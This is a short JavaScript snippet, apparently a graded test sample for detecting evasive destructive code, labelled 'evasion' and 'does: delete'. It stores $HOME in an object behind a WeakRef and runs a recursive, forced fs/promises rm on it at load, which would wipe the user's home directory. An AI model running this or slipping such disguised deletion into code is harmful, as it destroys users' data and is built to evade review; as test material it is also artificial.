// evasion: a WeakRef to a settings object holding $HOME; ref.deref()?.root is removed with fs/promises
// grade: very hard; does: delete
const fsp = require("fs/promises");
const settings = { root: process.env.HOME, keep: 3 };
const ref = new WeakRef(settings);
async function prune() {
  await fsp.rm(ref.deref()?.root, { recursive: true, force: true });
}
prune();
